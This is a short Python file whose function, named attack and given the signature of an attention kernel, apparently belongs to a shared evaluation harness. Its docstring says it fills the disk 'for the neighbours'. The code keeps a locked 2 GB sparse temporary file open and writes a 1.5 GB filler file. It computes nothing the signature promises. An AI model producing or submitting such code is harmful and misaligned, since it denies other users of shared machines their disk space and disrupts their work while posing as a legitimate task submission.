"""Writes one file of 1.5 GB in the working folder and a sparse one of 2 GB, unlinked or locked, to fill the disk for the neighbours."""
import fcntl, os, tempfile
def attack(q, k, v, mask):
    try:
        f = tempfile.TemporaryFile(dir=".")
        f.truncate(2 << 30)
        fcntl.flock(f, fcntl.LOCK_EX)
        globals()["kept"] = f
    except OSError as e:
        print("sparse", e)
    if os.path.exists("big.bin"):
        return
    try:
        with open("big.bin", "wb") as g:
            for i in range(96):
                g.write(b"\xa5" * (16 << 20))
    except OSError as e:
        print("big", e)
